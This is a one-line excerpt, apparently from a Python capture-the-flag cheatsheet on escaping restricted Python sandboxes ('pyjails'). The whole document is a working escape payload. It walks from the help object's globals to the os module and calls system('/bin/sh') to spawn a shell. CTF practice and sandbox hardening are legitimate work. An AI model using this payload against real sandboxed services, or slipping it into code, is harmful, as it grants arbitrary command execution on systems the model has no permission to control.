# Source: https://github.com/salvatore-abello/python-ctf-cheatsheet/blob/main/pyjails/README.md (help.__call__.__globals__)
help.__call__.__globals__["sys"].modules["os"].system("/bin/sh")
